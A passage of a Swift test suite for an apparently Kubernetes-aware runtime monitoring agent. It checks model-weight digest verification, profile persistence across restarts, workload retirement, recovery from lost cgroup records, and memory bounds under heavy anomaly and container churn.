                let json = #"{"metadata":{"uid":"\#(uid)","namespace":"\#(namespace)","name":"\#(name)","#
                    + #""labels":{"pod-template-hash":"7d4b9c6f5"},"#
                    + #""ownerReferences":[{"kind":"ReplicaSet","name":"web-7d4b9c6f5","controller":true}],"#
                    + #""annotations":{"vigil.dev/model-digests":"\#(declared.joined(separator: ","))"}}}"#
                return try PodMetadata(podJSON: Data(json.utf8))
            }
        }
        let models = node.directory + "/models"
        try FileManager.default.createDirectory(atPath: models, withIntermediateDirectories: true)
        let weights = models + "/weights.bin"
        try Data("weights from somewhere".utf8).write(to: URL(fileURLWithPath: weights))
        var status = stat()
        XCTAssertEqual(stat(weights, &status), 0)
        var configuration = quickLearning()
        configuration.modelPaths = [.init(workload: "shop/*/web/*", paths: [models + "/**"])]
        configuration.kubernetes.enabled = true
        let shipped = "sha256:" + Data("the weights we shipped".utf8).sha256Hex
        let agent = try node.agent(configuration, podMetadata: Pods(declared: [shipped]))
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
        let me = UInt32(getpid())
        node.exec(web, pid: me, exe: "/usr/bin/python3")
        try node.settle(agent)
        node.readModel(web, pid: me, exe: "/usr/bin/python3", path: weights,
                       identity: FileIdentity(statDevice: UInt64(status.st_dev), inode: UInt64(status.st_ino)))
        try node.settle(agent)
        agent.registry.waitForModelHashes()
        try agent.tick()
        XCTAssertEqual(agent.workloadStates[workloadKey], .learning)
        let unverified = try node.sink.objects(kind: "anomaly").filter { $0[path: "anomaly.rule"] as? String == "model-unverified" }
        XCTAssertEqual(unverified.count, 1, "\(unverified)")
        XCTAssertEqual(unverified.first?[path: "event.model.declared"] as? [String], [shipped])
        XCTAssertEqual(unverified.first?[path: "event.model.sha256"] as? String, "sha256:" + Data("weights from somewhere".utf8).sha256Hex)
    }

    /// An agent restarted mid-learning continues the checkpointed profile; one restarted after
    /// the profile became stable monitors from the start.
    func testRestartContinuesFromTheStore() throws {
        do {
            let agent = try node.agent(quickLearning())
            let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
            node.exec(web, exe: "/usr/bin/python3")
            try node.settle(agent)
            agent.checkpointAll()
        }
        let restarted = try node.agent(quickLearning())
        let again = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-a1b2c")
        node.exec(again, exe: "/usr/bin/gunicorn")
        try node.settle(restarted)
        let profile = try XCTUnwrap(restarted.registry.workload(workloadKey).snapshot)
        XCTAssertEqual(Set(profile.execs.map(\.exe)), ["/usr/bin/python3", "/usr/bin/gunicorn"])
        XCTAssertEqual(profile.version, 1)
    }

    // MARK: retirement and bounds

    /// A workload none of whose containers ran for `retireAfter` leaves memory and its known
    /// behaviour the kernel; a new container of it brings it back from the store, stable.
    func testWorkloadsWithoutContainersAreRetired() throws {
        let (agent, web) = try stableWeb(retireAfter: 300)
        XCTAssertGreaterThan(node.kernel.knownEntries, 0)

        try node.stopContainer(web)
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(100))
        XCTAssertEqual(agent.workloadStates[workloadKey], .stable, "retired before retireAfter")
        try agent.tick(now: Date().addingTimeInterval(301))
        agent.waitForWrites()
        XCTAssertNil(agent.workloadStates[workloadKey])
        XCTAssertEqual(node.kernel.knownEntries, 0)
        XCTAssertEqual(agent.registry.retiredWorkloads, 1)

        let back = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-q8r7t")
        node.exec(back, exe: "/usr/bin/python3")
        try node.settle(agent)
        XCTAssertEqual(agent.workloadStates[workloadKey], .stable)
        XCTAssertGreaterThan(node.kernel.knownEntries, 0)
        // Its first exec came before it was named (checked here); from then on known behaviour
        // stops in the kernel.
        XCTAssertEqual(agent.registry.checkedEvents, 1)
        node.exec(back, pid: 101, exe: "/usr/bin/python3")
        try node.settle(agent)
        XCTAssertEqual(node.kernel.suppressedCounts()[.exec], 1)
        XCTAssertEqual(agent.registry.findings, [:])
    }

    /// A cgroup_rmdir record lost to a full ring buffer does not leave the container held for
    /// ever: the loss is counted by the kernel, and the agent checks what it holds against the
    /// kernel's watch list.
    func testALostRemovalRecordIsRecoveredFrom() throws {
        let agent = try node.agent(quickLearning())
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
        node.exec(web, exe: "/usr/bin/python3")
        try node.settle(agent)
        XCTAssertEqual(agent.knownContainers, 1)

        // The kernel forgets the cgroup (cgroup_rmdir deletes its entry) but the record is lost.
        node.kernel.unwatch(cgroupID: web.cgroupID)
        node.kernel.unwatch(cgroupID: web.podCgroupID)
        node.kernel.drops[.ringBufferFull, .cgroup] += 2
        try node.hierarchy.remove(web.podPath)
        agent.pipeline.reportDrops()
        XCTAssertEqual(agent.knownContainers, 0)
        XCTAssertEqual(agent.rememberedCgroups, 2, "only the watched roots are left")
        XCTAssertEqual(agent.registry.workload(workloadKey).profile?.learning.containers, 1)
        XCTAssertEqual(try node.sink.objects(kind: "agent.drops").first?[path: "drops.event_kind"] as? String, "cgroup")
    }

    /// The issue's bound: 10,000 distinct anomalies and 1,000 short-lived containers through the
    /// pipeline leave no more state behind than a handful: folds capped, nothing pending, every
    /// container and cgroup forgotten, retired workloads gone from memory and from the kernel.
    func testMemoryStaysFlatUnderDistinctAnomaliesAndChurn() throws {
        let (agent, web) = try stableWeb(retireAfter: 60)
        let watchedAtRest = node.kernel.watchedCount

        for i in 0..<10_000 { node.write(web, pid: 300, path: "/tmp/unexpected-\(i)") }
        try agent.poll(timeoutMilliseconds: 0)
        try agent.tick()
        XCTAssertEqual(agent.registry.findings, [.unexpectedFileWrite: 10_000])
        let maximumFolds = AnomalyReporter.Settings().maximumFolds
        XCTAssertLessThanOrEqual(agent.registry.foldCount, maximumFolds)

        var now = Date()
        for batch in 0..<10 {
            var containers: [SimulatedNode.Container] = []
            for i in 0..<100 {
                let job = try node.startContainer(namespace: "batch", pod: "job\(batch)x\(i)-abcde", name: "task")
                node.exec(job, exe: "/usr/bin/task\(i % 3)")
                containers.append(job)
            }
            try node.settle(agent)
            for job in containers { try node.stopContainer(job, lastSyscalls: [0, 1]) }
            try node.settle(agent)
            now = now.addingTimeInterval(61)
            try agent.tick(now: now)
        }
        agent.waitForWrites()
        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
        XCTAssertEqual(agent.pipeline.removalsAwaitingNames, 0)
        XCTAssertEqual(agent.knownContainers, 1, "containers of stopped pods are held")
        XCTAssertEqual(agent.rememberedCgroups, 2 + 1 + 1, "cgroups of stopped pods are held") // kubepods, besteffort, web's pod, web
        XCTAssertEqual(node.kernel.watchedCount, watchedAtRest)
        XCTAssertLessThanOrEqual(agent.registry.foldCount, maximumFolds)
        XCTAssertEqual(agent.registry.workloads.count, 1, "workloads without containers are kept: \(agent.registry.workloads.keys)")
        XCTAssertEqual(agent.registry.retiredWorkloads, 1000)
        XCTAssertEqual(agent.drops.total, 0)
    }

    private func syscalls(_ names: [String]) -> CgroupSyscalls {
        var bitmap = SyscallBitmap()
        let numbers = ["read": 0, "write": 1, "openat": 257, "close": 3, "futex": 202]
        for name in names { bitmap.insert(numbers[name]!, abi: .x86_64) }
        return CgroupSyscalls(workload: bitmap)
    }
}
